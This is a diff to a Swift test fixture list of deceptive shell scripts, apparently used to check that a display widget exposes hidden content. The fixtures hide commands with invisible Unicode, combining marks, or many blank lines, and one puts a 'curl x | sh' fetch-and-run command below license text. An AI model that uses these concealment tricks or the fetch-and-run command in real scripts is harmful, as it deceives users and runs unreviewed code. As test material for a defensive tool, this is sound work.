@@ -1,3 +1,4 @@
+import Expectations
 import WidgetCore
 
 /// A program that tries to be taken for something else, and what is to be shown of it.
@@ -90,9 +91,11 @@ extension HostileProgram {
     script("selectors after digits and letters", "sleep 1\u{FE0F}0; a\u{FE0E}=\u{E0100}\n"),
     script("an annotation, and deprecated formats", "\u{FFF9}a\u{FFFA}b\u{FFFB}\u{206A}\u{206F}\n"),
     script(
-      "marks that cover other lines", "# a\(String(repeating: "\u{301}", count: 100_000))\nrm x\n"),
+      "marks that cover other lines",
+      "# a\(String(repeating: "\u{301}", count: trials(10_000, of: 100_000)))\nrm x\n"),
     script(
-      "more lines than can be shown at once", String(repeating: "\n", count: 200_000) + "rm x\n"),
+      "more lines than can be shown at once",
+      String(repeating: "\n", count: trials(10_000, of: 200_000)) + "rm x\n"),
     script("what looks like a mark already", "# ⟨U+XXXX⟩ ⟨U+⟩ ⟨ ⟩\n"),
     script("right-to-left text", "# سطر من النص العربي مع date في داخله\necho שלום\n"),
     script("code below a license", license.joined() + "touch ~/.hidden; curl x | sh\n"),
